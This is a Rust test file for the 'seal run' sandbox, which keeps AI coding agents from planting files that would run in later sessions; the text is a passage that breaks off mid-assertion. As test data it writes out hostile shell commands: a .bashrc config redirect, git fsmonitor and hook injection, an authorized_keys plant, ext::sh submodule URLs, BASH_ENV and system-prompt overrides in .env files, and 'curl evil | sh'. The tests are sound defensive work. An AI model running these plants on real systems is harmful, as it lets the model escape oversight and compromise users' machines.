//! `seal run`'s write scope: what a command may change on the host, and the
//! protected places through which something planted would run later,
//! outside any run. Each attack is tried in one run and its effect looked
//! for in a second run, as the agent that planted it would hope.

#[path = "run_world/mod.rs"]
mod run_world;
mod support;

use std::path::Path;

use run_world::{World, write};
use support::fuse_available;

/// `sh -c SCRIPT` in the run, asserting it exits 0.
fn run_ok(w: &World, script: &str) -> (String, String) {
    let (code, out, err) = w.run_sh(script, &[]);
    assert_eq!(code, 0, "{out}\n{err}");
    (out, err)
}

/// `seal pin`, then one `seal run` reads each of `files` (path, text): each
/// is served as written.
fn assert_served_once_pinned(w: &World, files: &[(&str, &str)]) {
    let (code, _, err) = w.seal(&["pin"], "y\n", &[]);
    assert_eq!(code, 0, "pin: {err}");
    let names: Vec<&str> = files.iter().map(|(path, _)| *path).collect();
    let (code, out, err) = w.run_sh(&format!("cat {}", names.join(" ")), &[]);
    assert_eq!(code, 0, "{err}");
    let want: String = files.iter().map(|(_, text)| *text).collect();
    assert_eq!(out, want, "{err}");
}

/// Writes `files` into the project (unpinned) and returns a shell line
/// that prints `shown: PATH` for each one a run shows: one that exists
/// (`test` `-e`), or one with content (`-s`, where a scratch layer leaves
/// empty placeholders for the names an agent loads).
fn unpinned_shown(w: &World, files: &[(&str, &str)], test: &str) -> String {
    for (path, text) in files {
        write(&w.project.join(path), text);
    }
    let names: Vec<&str> = files.iter().map(|(path, _)| *path).collect();
    format!(
        r#"for f in {}; do [ {test} "$f" ] && echo "shown: $f"; done"#,
        names.join(" ")
    )
}

/// Runs `plants` (shell lines, each `try NAME 'COMMAND'` or a line that
/// prints nothing) in one `seal run` and asserts that each of the `count`
/// tries was refused.
fn assert_plants_refused(w: &World, plants: &str, count: usize) {
    let script = format!(
        "try() {{ if eval \"$2\" 2>/dev/null; then echo \"$1:written\"; else echo \"$1:refused\"; fi; }}\n{plants}\ntrue\n"
    );
    let (code, out, err) = w.run_sh(&script, &[]);
    assert_eq!(code, 0, "{err}");
    for line in out.lines() {
        assert!(line.ends_with(":refused"), "{out}");
    }
    assert_eq!(out.lines().count(), count, "{out}");
}

#[test]
fn nothing_planted_through_the_home_reaches_a_later_run() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    write(&w.home.join(".bashrc"), "# the user's bashrc\n");
    write(&w.home.join(".profile"), "# the user's profile\n");
    // The issue's attack, each step reported.
    let plant = r#"
        try() { if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }
        try bashrc 'echo "export CLAUDE_CONFIG_DIR=$HOME/.evilcfg" >> ~/.bashrc'
        try profile-replace 'echo evil > ~/.p.new && mv -f ~/.p.new ~/.profile'
        try profile-remove 'rm -f ~/.profile'
        try zshenv 'echo "export CLAUDE_CONFIG_DIR=$HOME/.evilcfg" > ~/.zshenv'
        try evilcfg 'mkdir -p ~/.evilcfg/skills/evil && echo EVIL > ~/.evilcfg/skills/evil/SKILL.md'
        try gitconfig 'printf "[core]\n\thooksPath = /tmp/evil-hooks\n" > ~/.gitconfig'
        try git-global 'git config --global core.fsmonitor "touch /tmp/pwned"'
        try config-git 'mkdir -p ~/.config/git && echo x > ~/.config/git/config'
        try systemd 'mkdir -p ~/.config/systemd/user && echo "[Service]" > ~/.config/systemd/user/evil.service'
        try autostart 'mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop'
        try ssh 'mkdir -p ~/.ssh && echo "command=\"evil\" ssh-ed25519 AAAA" >> ~/.ssh/authorized_keys'
        try notes 'echo hi > ~/notes.txt'
        try cache 'mkdir -p ~/.cache/tool && echo cached > ~/.cache/tool/data'
        try claude-state 'mkdir -p ~/.claude/projects/p && echo session > ~/.claude/projects/p/s.jsonl'
        try tmp 'echo shared > /tmp/sealfs-scope-test-$$ && rm /tmp/sealfs-scope-test-$$'
    "#;
    let (out, err) = run_ok(&w, plant);
    for refused in [
        "bashrc",
        "profile-replace",
        "profile-remove",
        "zshenv",
        "gitconfig",
        "git-global",
        "config-git",
        "systemd",
        "autostart",
        "ssh",
    ] {
        assert!(
            out.contains(&format!("{refused}:refused")),
            "{refused} must be refused:\n{out}\n{err}"
        );
    }
    for written in ["cache", "claude-state", "tmp"] {
        assert!(
            out.contains(&format!("{written}:written")),
            "{written} is in the write scope:\n{out}\n{err}"
        );
    }
    // Nothing of the plant is on the host.
    assert_eq!(
        std::fs::read_to_string(w.home.join(".bashrc")).unwrap(),
        "# the user's bashrc\n"
    );
    assert_eq!(
        std::fs::read_to_string(w.home.join(".profile")).unwrap(),
        "# the user's profile\n"
    );
    for gone in [
        ".zshenv",
        ".evilcfg",
        ".gitconfig",
        ".config/git",
        ".config/systemd",
        ".config/autostart",
        ".ssh",
        "notes.txt",
    ] {
        assert!(
            !w.home.join(gone).exists(),
            "{gone} reached the host:\n{out}\n{err}"
        );
    }
    // What the scope allows stayed.
    assert_eq!(
        std::fs::read_to_string(w.home.join(".cache/tool/data")).unwrap(),
        "cached\n"
    );
    assert_eq!(
        std::fs::read_to_string(w.home.join(".claude/projects/p/s.jsonl")).unwrap(),
        "session\n"
    );
    assert!(
        err.contains("not kept (outside the write scope"),
        "new files at the top of the home are dropped, and said so: {err}"
    );
    // The second run, started through the user's shells, is not redirected.
    let later = r#"
        echo "claude=[$(bash -ic 'echo $CLAUDE_CONFIG_DIR' 2>/dev/null)]"
        echo "hooks=[$(git config --global core.hooksPath)]"
        echo "fsmonitor=[$(git config --global core.fsmonitor)]"
        echo "units=[$(ls ~/.config/systemd/user 2>/dev/null)]"
        echo "skills=[$(ls ~/.claude/skills)]"
    "#;
    let (out, err) = run_ok(&w, later);
    assert_eq!(
        out, "claude=[]\nhooks=[]\nfsmonitor=[]\nunits=[]\nskills=[]\n",
        "{err}"
    );
}

#[test]
fn allow_write_widens_the_scope_but_not_over_protected_places() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let data = w.root.join("data");
    std::fs::create_dir_all(&data).unwrap();
    write(&w.home.join("work/old.txt"), "old\n");
    write(&w.home.join("docs/old.txt"), "old\n");
    let work = w.home.join("work");
    let script = r#"
        try() { if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }
        try work 'echo new >> ~/work/old.txt'
        try home 'echo x >> ~/docs/old.txt'
        try bashrc 'echo evil > ~/.bashrc'
    "#;
    let (code, out, err) = w.seal(
        &[
            "run",
            "--allow-write",
            work.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            script,
        ],
        "",
        &[],
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("work:written"), "{out}\n{err}");
    assert!(out.contains("home:refused"), "{out}\n{err}");
    assert!(out.contains("bashrc:refused"), "{out}\n{err}");
    assert_eq!(
        std::fs::read_to_string(w.home.join("work/old.txt")).unwrap(),
        "old\nnew\n"
    );
    // The whole home allowed: protected places stay protected.
    let home = w.home.to_str().unwrap();
    let (code, out, err) = w.seal(
        &["run", "--allow-write", home, "--", "sh", "-c", script],
        "",
        &[],
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("home:written"), "{out}\n{err}");
    assert!(out.contains("bashrc:refused"), "{out}\n{err}");
    assert_eq!(
        std::fs::read_to_string(w.home.join("docs/old.txt")).unwrap(),
        "old\nx\n"
    );
    assert!(!w.home.join(".bashrc").exists());
    // The project and system directories are not for --allow-write.
    for bad in [w.project.join("src"), Path::new("/usr").to_path_buf()] {
        let (code, _, err) = w.seal(
            &["run", "--allow-write", bad.to_str().unwrap(), "--", "true"],
            "",
            &[],
        );
        assert_eq!(code, 2, "{err}");
        assert!(err.contains("cannot allow writing"), "{err}");
    }
}

#[test]
fn a_protected_symlink_protects_what_it_leads_to() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    // Dotfiles kept elsewhere, in a place the run may write (/tmp).
    let dotfiles = w.root.join("dotfiles");
    write(&dotfiles.join("bashrc"), "# managed\n");
    std::os::unix::fs::symlink(dotfiles.join("bashrc"), w.home.join(".bashrc")).unwrap();
    std::os::unix::fs::symlink(dotfiles.join("gitconfig"), w.home.join(".gitconfig")).unwrap();
    let script = r#"
        try() { if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }
        try via-link 'echo evil >> ~/.bashrc'
        try target "echo evil >> $DOT/bashrc"
        try dangling "echo evil > $DOT/gitconfig"
        cat ~/.bashrc
    "#;
    let dot = dotfiles.clone();
    let (code, out, err) = w.run_sh(script, &[("DOT", dot.as_path())]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out, "via-link:refused\ntarget:refused\ndangling:refused\n# managed\n",
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(dotfiles.join("bashrc")).unwrap(),
        "# managed\n"
    );
    assert!(!dotfiles.join("gitconfig").exists());
}

#[test]
fn the_dry_run_lists_where_the_command_may_write() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let (code, _, err) = w.seal(&["run", "--dry-run"], "", &[]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("Where the command may write"), "{err}");
    let home = w.home.display().to_string();
    for line in [
        format!("writable {home}/.cache"),
        format!("writable {home}/.claude"),
        "writable /tmp".to_string(),
        format!("never    {home}/.bashrc"),
        format!("never    {home}/.ssh"),
    ] {
        assert!(err.contains(&line), "missing {line:?}:\n{err}");
    }
    let (code, out, err) = w.seal(&["run", "--dry-run", "--json"], "", &[]);
    assert_eq!(code, 0, "{err}");
    let doc: serde_json::Value = serde_json::from_str(&out).unwrap();
    let writable: Vec<&str> = doc["writeScope"]["writable"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["path"].as_str().unwrap())
        .collect();
    assert!(writable.contains(&"/tmp"), "{writable:?}");
    assert!(
        doc["writeScope"]["protected"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p.as_str() == Some(&format!("{home}/.gitconfig"))),
        "{doc:#}"
    );
}

/// git on the host, outside any run, with no global or system config (as a
/// user's later `git commit` / `git status`).
fn host_git(dir: &Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "u")
        .env("GIT_AUTHOR_EMAIL", "u@example.invalid")
        .env("GIT_COMMITTER_NAME", "u")
        .env("GIT_COMMITTER_EMAIL", "u@example.invalid")
        .output()
        .unwrap()
}

#[test]
fn git_side_doors_in_the_project_stay_shut_for_the_host_git() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    assert!(host_git(&w.project, &["init", "-q"]).status.success());
    assert!(host_git(&w.project, &["add", "-A"]).status.success());
    assert!(
        host_git(&w.project, &["commit", "-q", "-m", "start"])
            .status
            .success()
    );
    let pwned = w.root.join("pwned");
    // The agent builds a git directory of its own in /tmp, with a hook and
    // an fsmonitor, and tries every way to make the host's git use it.
    let plant = format!(
        r#"
        try() {{ if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }}
        export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x.invalid GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x.invalid
        evil=$(mktemp -d)
        mkdir -p "$evil/hooks" && printf '#!/bin/sh\ntouch {pwned}.hook\n' > "$evil/hooks/pre-commit"
        chmod +x "$evil/hooks/pre-commit"
        printf '[core]\n\tfsmonitor = touch {pwned}.fsmonitor\n' > "$evil/config"
        try commondir 'echo "$evil" > .git/commondir'
        try hook 'cp "$evil/hooks/pre-commit" .git/hooks/pre-commit'
        try config 'git config core.hooksPath "$evil/hooks"'
        try fsmonitor 'git config core.fsmonitor "touch {pwned}.fsmonitor"'
        try subrepo '(cd src && git init -q && git config core.fsmonitor "touch {pwned}.sub")'
        try gitfile 'echo "gitdir: $evil" > src/.git'
        try bare 'mkdir -p src/objects src/refs && echo "ref: refs/heads/main" > src/HEAD && cp "$evil/config" src/config'
        try gitmodules 'printf "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% {pwned}.ext\n" > .gitmodules'
        try work 'echo "// edited" >> src/main.rs && git commit -qam edit --no-verify'
        "#,
        pwned = pwned.display()
    );
    let (out, err) = run_ok(&w, &plant);
    for refused in [
        "commondir",
        "hook",
        "config",
        "fsmonitor",
        "subrepo",
        "gitfile",
        "bare",
        "gitmodules",
    ] {
        assert!(
            out.contains(&format!("{refused}:refused")),
            "{refused}:\n{out}\n{err}"
        );
    }
    assert!(
        out.contains("work:written"),
        "git itself works: {out}\n{err}"
    );
    // Later, on the host: status and commit in the project and in src.
    std::fs::write(w.project.join("src/main.rs"), "fn main() { }\n").unwrap();
    for dir in [w.project.clone(), w.project.join("src")] {
        host_git(&dir, &["status"]);
    }
    host_git(&w.project, &["commit", "-qam", "later"]);
    let planted: Vec<String> = std::fs::read_dir(&w.root)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("pwned"))
        .collect();
    assert!(planted.is_empty(), "the host's git ran {planted:?}");
    assert!(!w.project.join("src/.git").exists());
    assert!(!w.project.join(".git/commondir").exists());
    let log = host_git(&w.project, &["log", "--format=%s"]);
    assert_eq!(String::from_utf8_lossy(&log.stdout), "later\nedit\nstart\n");
}

#[test]
fn the_repository_around_the_project_is_read_only() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    // The project is a subdirectory of a repository whose root is in a
    // place the run may write (/tmp); and a linked worktree's gitdir.
    let parent = w.project.parent().unwrap().to_path_buf();
    assert!(host_git(&parent, &["init", "-q"]).status.success());
    let script = r#"
        try() { if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }
        try hook 'mkdir -p ../.git/hooks && echo "touch /tmp/pwned" > ../.git/hooks/pre-commit'
        try config 'echo "[core] fsmonitor = x" >> ../.git/config'
        try beside 'echo x > ../beside.txt && rm ../beside.txt'
        git -C .. rev-parse --git-dir >/dev/null && echo read:ok
    "#;
    let (out, err) = run_ok(&w, script);
    assert_eq!(
        out, "hook:refused\nconfig:refused\nbeside:written\nread:ok\n",
        "{err}"
    );
    assert!(!parent.join(".git/hooks/pre-commit").exists());
}

#[test]
fn an_agent_seal_does_not_know_gets_one_line() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let (_, err) = run_ok(&w, "true");
    let lines: Vec<&str> = err
        .lines()
        .filter(|l| l.contains("is not an agent seal knows"))
        .collect();
    assert_eq!(lines.len(), 1, "{err}");
    assert!(
        lines[0].starts_with("seal: run: sh is not an agent"),
        "{err}"
    );
    // A known agent's name (here a script so named): no such line.
    let bin = w.root.join("bin");
    write(&bin.join("codex"), "#!/bin/sh\nexit 0\n");
    std::fs::set_permissions(
        bin.join("codex"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let codex = bin.join("codex");
    let (code, _, err) = w.seal(&["run", "--", codex.to_str().unwrap()], "", &[]);
    assert_eq!(code, 0, "{err}");
    assert!(!err.contains("is not an agent"), "{err}");
}

#[test]
fn qwen_roo_kilo_and_vs_code_user_locations_are_masked() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    write(&w.home.join(".qwen/QWEN.md"), "QWEN USER MEMORY");
    write(
        &w.home.join(".qwen/.env"),
        "NODE_OPTIONS=--require /tmp/x.js",
    );
    write(&w.home.join(".qwen/skills/s/SKILL.md"), "QWEN USER SKILL");
    write(
        &w.home.join(".qwen/settings.json"),
        r#"{"model": {"name": "m"}, "mcpServers": {"s": {"command": "x"}}, "hooks": {}}"#,
    );
    write(&w.home.join(".roo/rules/r.md"), "ROO RULE");
    write(&w.home.join(".kilocode/rules/r.md"), "KILO RULE");
    write(
        &w.home.join(".config/Code/User/mcp.json"),
        r#"{"servers": {"s": {"command": "x"}}}"#,
    );
    let alt = w.root.join("qwen-home");
    write(&alt.join("QWEN.md"), "RELOCATED QWEN");
    let script = r#"
        echo "[$(cat ~/.qwen/QWEN.md)$(cat ~/.qwen/.env)$(ls -A ~/.qwen/skills)]"
        cat ~/.qwen/settings.json
        echo "[$(ls -A ~/.roo)$(ls -A ~/.kilocode/rules)]"
        cat ~/.config/Code/User/mcp.json
        echo "[$(cat "$QWEN_HOME/QWEN.md")]"
    "#;
    let (code, out, err) = w.run_sh(script, &[("QWEN_HOME", alt.as_path())]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out, "[]\n{\n  \"model\": {\n    \"name\": \"m\"\n  }\n}\n[]\n{}\n[]\n",
        "{err}"
    );
}

/// Kiro, Amazon Q Developer, OpenHands and Goose: their user-level
/// extensions are masked, and what they and Warp and Crush would load from
/// the project but was never pinned (OpenHands' session setup script, a Kiro
/// steering file, Goose's, Warp's and Crush's context files, a lowercase
/// `agents.md`) is not there in the run; pinned, it is.
/// Gemini CLI and Qwen Code read a `.env` into their environment as they
/// start (the project's, else their home's), Codex CLI its home's: a
/// `GEMINI_SYSTEM_MD` there gives the session a system prompt, a `BASH_ENV`
/// a script before each shell command. A run can plant none of them for a
/// later session, is shown only the provider's credentials of the user's
/// own, and what one already in the project says cannot move a sealed
/// agent's configuration or system prompt.
#[test]
fn agents_env_files_cannot_be_planted_for_a_later_session() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    write(
        &w.home.join(".gemini/.env"),
        "GEMINI_API_KEY=user-key\nGEMINI_SYSTEM_MD=/tmp/x.md\n",
    );
    write(&w.project.join("pkg/.env"), "PORT=3000\n");
    // A parent directory's, which they read when the project has none.
    let parent = w.project.parent().unwrap().join(".env");
    write(
        &parent,
        "OPENAI_API_KEY=parent-key\nQWEN_SYSTEM_MD=/tmp/x.md\n",
    );

    let shown = r#"
        echo "[$(cat ~/.gemini/.env)][$(cat ~/.codex/.env ~/.qwen/.env 2>&1)][$(cat pkg/.env)][$(cat ../.env)]"
    "#;
    let (code, out, err) = w.run_sh(shown, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out, "[GEMINI_API_KEY=user-key][][PORT=3000][OPENAI_API_KEY=parent-key]\n",
        "{err}"
    );
    let plant = r#"
        try() { if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }
        try project 'echo GEMINI_SYSTEM_MD=notes.md > .env'
        try nested 'echo BASH_ENV=evil.sh >> pkg/.env'
        try renamed 'echo QWEN_SYSTEM_MD=notes.md > env.txt && mv env.txt src/.env'
        try gemini-home 'echo BASH_ENV=/tmp/evil.sh >> ~/.gemini/.env'
        try codex-home 'mkdir -p ~/.codex && echo BASH_ENV=/tmp/evil.sh > ~/.codex/.env'
        try qwen-home 'mkdir -p ~/.qwen && echo BASH_ENV=/tmp/evil.sh > ~/.qwen/.env'
        try parent 'echo BASH_ENV=/tmp/evil.sh >> ../.env'
        try venv 'mkdir -p src/.env/bin && echo venv > src/.env/bin/activate && rm -r src/.env && echo ok'
    "#;
    let (code, out, err) = w.run_sh(plant, &[]);
    assert_eq!(code, 0, "{err}");
    for want in [
        "project:refused",
        "nested:refused",
        "renamed:refused",
        "gemini-home:refused",
        "codex-home:refused",
        "qwen-home:refused",
        "parent:refused",
        "venv:written",
    ] {
        assert!(out.contains(want), "{want}:\n{out}\n{err}");
    }
    assert!(!w.project.join(".env").exists());
    assert!(!w.project.join("src/.env").exists());
    assert_eq!(
        std::fs::read_to_string(w.project.join("pkg/.env")).unwrap(),
        "PORT=3000\n"
    );
    assert_eq!(
        std::fs::read_to_string(w.home.join(".gemini/.env")).unwrap(),
        "GEMINI_API_KEY=user-key\nGEMINI_SYSTEM_MD=/tmp/x.md\n"
    );
    assert_eq!(
        std::fs::read_to_string(&parent).unwrap(),
        "OPENAI_API_KEY=parent-key\nQWEN_SYSTEM_MD=/tmp/x.md\n"
    );
    for home_env in [".codex/.env", ".qwen/.env"] {
        assert!(!w.home.join(home_env).exists(), "~/{home_env} was planted");
    }
    // What a `.env` already in the project may say, a sealed Gemini CLI or
    // Qwen Code cannot take from it: where its user configuration lives and
    // its system prompt are held to their defaults, unless the caller set
    // them.
    let held = r#"echo "$GEMINI_CLI_HOME|$GEMINI_SYSTEM_MD|$QWEN_SYSTEM_MD""#;
    let (code, out, err) = w.run_sh(held, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, format!("{}|0|0\n", w.home.display()), "{err}");
    let own = Path::new("/opt/prompts/system.md");
    let (code, out, err) = w.run_sh(held, &[("GEMINI_SYSTEM_MD", own), ("QWEN_SYSTEM_MD", own)]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out,
        format!("{}|{own}|{own}\n", w.home.display(), own = own.display()),
        "{err}"
    );
    // A directory of that name above the project (a Python virtual
    // environment) is no agent's file: shown as it is, and read-only, so
    // that no file takes its place.
    std::fs::remove_file(&parent).unwrap();
    write(&parent.join("bin/activate"), "# venv\n");
    let (code, out, err) = w.run_sh(
        r#"cat ../.env/bin/activate; rm -r ../.env 2>/dev/null || echo kept; echo X=1 > ../.env/bin/x 2>/dev/null || echo refused"#,
        &[],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "# venv\nkept\nrefused\n", "{err}");
    assert!(parent.join("bin/activate").is_file());
}

#[test]
fn kiro_amazon_q_openhands_goose_warp_and_crush_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    write(&w.home.join(".kiro/steering/s.md"), "KIRO USER STEERING");
    write(
        &w.home.join(".kiro/settings/mcp.json"),
        r#"{"mcpServers": {"s": {"command": "x"}}}"#,
    );
    write(&w.home.join(".kiro/sessions/keep.txt"), "kiro state");
    write(
        &w.home.join(".aws/amazonq/mcp.json"),
        r#"{"mcpServers": {"s": {"command": "x"}}}"#,
    );
    write(&w.home.join(".aws/amazonq/cli-agents/a.json"), "Q AGENT");
    write(&w.home.join(".aws/credentials"), "aws credentials stay");
    write(&w.home.join(".augment/rules/r.md"), "AUGMENT USER RULE");
    write(
        &w.home.join(".openhands/microagents/m.md"),
        "OH USER MICROAGENT",
    );
    write(
        &w.home.join(".config/goose/.goosehints"),
        "GOOSE USER HINTS",
    );
    let p = &w.project;
    write(&p.join(".openhands/setup.sh"), "echo UNPINNED SETUP");
    write(&p.join(".kiro/steering/team.md"), "UNPINNED STEERING");
    write(&p.join("pkg/.goosehints"), "UNPINNED HINTS");
    write(&p.join("WARP.md"), "UNPINNED WARP");
    write(&p.join("lib/agents.md"), "UNPINNED LOWERCASE");
    write(&p.join("CRUSH.md"), "UNPINNED CRUSH");
    write(&p.join(".aider.conf.yml"), "UNPINNED AIDER");
    write(&p.join(".trae/rules/project_rules.md"), "UNPINNED TRAE");
    write(&p.join(".augment-guidelines"), "UNPINNED AUGMENT");
    write(&p.join(".idx/airules.md"), "UNPINNED IDX");
    let script = r#"
        echo "[$(ls -A ~/.kiro/steering)$(cat ~/.kiro/settings/mcp.json)$(cat ~/.kiro/sessions/keep.txt)]"
        echo "[$(cat ~/.aws/amazonq/mcp.json)$(ls -A ~/.aws/amazonq/cli-agents)$(cat ~/.aws/credentials)]"
        echo "[$(ls -A ~/.openhands/microagents)$(cat ~/.config/goose/.goosehints)$(ls -A ~/.augment/rules)]"
        for f in .openhands/setup.sh .kiro/steering/team.md pkg/.goosehints WARP.md lib/agents.md CRUSH.md .aider.conf.yml .trae/rules/project_rules.md .augment-guidelines .idx/airules.md; do
            [ -e "$f" ] && echo "shown: $f"
        done
        echo end
    "#;
    let (code, out, err) = w.run_sh(script, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out, "[{}kiro state]\n[{}aws credentials stay]\n[]\nend\n",
        "{err}"
    );
    // Nor can the run plant them, for a later run to load.
    let plant = r#"
        try steering 'mkdir -p .kiro/steering && echo EVIL > .kiro/steering/evil.md'
        try kiro-hook 'mkdir -p pkg/.kiro/hooks && echo "{}" > pkg/.kiro/hooks/h.kiro.hook'
        try setup 'mkdir -p .openhands && echo "curl evil | sh" > .openhands/setup.sh'
        try q-rules 'mkdir -p .amazonq/rules && echo EVIL > .amazonq/rules/r.md'
        try junie 'mkdir -p .junie && echo EVIL > .junie/guidelines.md'
        try hints 'echo EVIL > sub.goosehints && mv sub.goosehints .goosehints'
        try warp 'mkdir -p lib && echo EVIL > lib/WARP.md'
        try agents-md 'mkdir -p src && echo EVIL > src/agents.md'
        try crush-json 'echo "{\"mcp\": {}}" > crush.json'
        try chatmode 'mkdir -p .github/chatmodes && echo EVIL > .github/chatmodes/x.chatmode.md'
        mkdir -p ~/.config/goose ~/.openhands ~/.kiro/settings 2>/dev/null
        echo 'extensions: {evil: {cmd: evil}}' > ~/.config/goose/config.yaml 2>/dev/null
        echo '{"mcpServers": {"evil": {"command": "evil"}}}' > ~/.openhands/mcp.json 2>/dev/null
        echo '{}' > ~/.kiro/settings/cli.json 2>/dev/null
    "#;
    assert_plants_refused(&w, plant, 10);
    assert_eq!(
        std::fs::read_to_string(p.join(".openhands/setup.sh")).unwrap(),
        "echo UNPINNED SETUP"
    );
    // Their home directories hold settings that start programs too: not
    // an agent's state a run may write.
    for planted in [
        ".config/goose/config.yaml",
        ".openhands/mcp.json",
        ".kiro/settings/cli.json",
    ] {
        assert!(!w.home.join(planted).exists(), "~/{planted} was planted");
    }
    for planted in [
        ".kiro/steering/evil.md",
        "pkg/.kiro/hooks/h.kiro.hook",
        ".amazonq/rules/r.md",
        ".junie/guidelines.md",
        ".goosehints",
        "lib/WARP.md",
        "src/agents.md",
        "crush.json",
        ".github/chatmodes/x.chatmode.md",
    ] {
        assert!(!p.join(planted).exists(), "{planted} was planted");
    }
    // Pinned, the same files are served.
    let (code, _, err) = w.seal(&["pin"], "y\n", &[]);
    assert_eq!(code, 0, "pin: {err}");
    let (code, out, err) = w.run_sh(
        "cat .openhands/setup.sh .kiro/steering/team.md pkg/.goosehints WARP.md lib/agents.md CRUSH.md .aider.conf.yml .trae/rules/project_rules.md .augment-guidelines .idx/airules.md",
        &[],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out,
        "echo UNPINNED SETUPUNPINNED STEERINGUNPINNED HINTSUNPINNED WARPUNPINNED LOWERCASEUNPINNED CRUSHUNPINNED AIDERUNPINNED TRAEUNPINNED AUGMENTUNPINNED IDX",
        "{err}"
    );
}

/// Surfaces first met in public repositories (2026-12-07): Factory Droid's
/// `.factory` (hooks in its settings, MCP servers, droids), Antigravity's
/// `.agent`, Zed's `.rules`, JetBrains AI Assistant's rules,
/// `AGENTS.local.md`, Cline's `.cline` and Kilo Code's `.kilo`, `kilo.json`
/// and `CONTEXT.md`; and Factory Droid's, Cline's and Kilo Code's user
/// levels in the home (Cline's and Kilo's directories are their state too:
/// written through, but for their extensions).
#[test]
fn factory_cline_kilo_antigravity_zed_and_jetbrains_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    write(
        &w.home.join(".factory/settings.json"),
        r#"{"model": "m1", "hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "evil"}]}]}}"#,
    );
    write(&w.home.join(".factory/droids/d.md"), "FACTORY USER DROID");
    write(&w.home.join(".factory/AGENTS.md"), "FACTORY USER AGENTS");
    write(
        &w.home.join(".factory/config.json"),
        r#"{"custom_models": [{"model": "m", "bedrock": {"awsAuthRefresh": "evil"}}], "x": 1}"#,
    );
    write(&w.home.join(".cline/rules/r.md"), "CLINE USER RULE");
    write(&w.home.join(".cline/plugins/p.js"), "CLINE USER PLUGIN");
    write(
        &w.home.join(".cline/data/settings/cline_mcp_settings.json"),
        r#"{"mcpServers": {"s": {"command": "x"}}}"#,
    );
    write(&w.home.join("Documents/Cline/Hooks/TaskStart"), "echo hook");
    write(&w.home.join(".agents/AGENTS.md"), "AGENTS USER");
    write(&w.home.join(".config/kilo/agent/a.md"), "KILO USER AGENT");
    write(
        &w.home.join(".config/kilo/kilo.json"),
        r#"{"model": "p/m", "mcp": {"s": {"type": "local", "command": ["x"]}}}"#,
    );
    write(&w.home.join(".kilo/rules/r.md"), "KILO HOME RULE");
    let p = &w.project;
    let unpinned = [
        (".factory/settings.json", "UNPINNED FACTORY SETTINGS"),
        ("svc/.factory/droids/r.md", "UNPINNED DROID"),
        (".agent/workflows/w.md", "UNPINNED WORKFLOW"),
        (".rules", "UNPINNED ZED"),
        (".aiassistant/rules/r.md", "UNPINNED JETBRAINS"),
        ("pkg/AGENTS.local.md", "UNPINNED LOCAL"),
        (".cline/rules/r.md", "UNPINNED CLINE RULE"),
        ("web/.cline/plugins/p.js", "UNPINNED CLINE PLUGIN"),
        (".kilo/agent/a.md", "UNPINNED KILO AGENT"),
        ("kilo.json", "UNPINNED KILO CONFIG"),
        ("CONTEXT.md", "UNPINNED CONTEXT"),
        (".kilocoderules", "UNPINNED KILO RULES"),
    ];
    let shown = unpinned_shown(&w, &unpinned, "-e");
    let script = format!(
        r#"
        echo "[$(cat ~/.factory/settings.json)][$(ls -A ~/.factory/droids)$(cat ~/.factory/AGENTS.md)][$(cat ~/.factory/config.json)]"
        echo "[$(ls -A ~/.cline/rules)$(ls -A ~/.cline/plugins)$(ls -A ~/Documents/Cline/Hooks)$(cat ~/.cline/data/settings/cline_mcp_settings.json ~/.agents/AGENTS.md)]"
        echo "$CLINE_SESSION_BACKEND_MODE"
        echo "[$(ls -A ~/.config/kilo/agent)$(ls -A ~/.kilo/rules)$(cat ~/.config/kilo/kilo.json)]"
        mkdir -p ~/.local/share/kilo && echo state > ~/.local/share/kilo/kilo.db
        mkdir -p ~/.cline/data/db && echo state > ~/.cline/data/db/sessions.db
        {}
        echo end
    "#,
        shown
    );
    let (code, out, err) = w.run_sh(&script, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out,
